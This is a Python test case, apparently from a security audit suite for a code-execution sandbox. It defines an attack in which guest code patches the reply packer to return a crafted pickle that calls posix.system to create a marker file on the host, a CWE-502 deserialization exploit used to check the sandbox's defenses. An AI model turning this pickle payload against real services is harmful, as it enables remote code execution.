"""Answer one's cell with a pickle in place of a result"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.CHANGED,
    references=("CWE-502",),
    careless=True,
    guest="""
import sys


def part(end):
    return next(m for name, m in list(sys.modules.items()) if name.endswith(end))


import base64
import json

text = f"touch {target['dir']}/made"
size = len(text).to_bytes(4, "little")
bomb = b"\\x80\\x02cposix\\nsystem\\nX" + size + text.encode() + b"\\x85R."
packed = base64.b64encode(bomb).decode()
header = {"verdict": "ok", "pieces": [0, 0, -len(packed)]}
part(".wire").pack_reply = lambda reply: json.dumps(header) + "\\n" + packed
""",
)
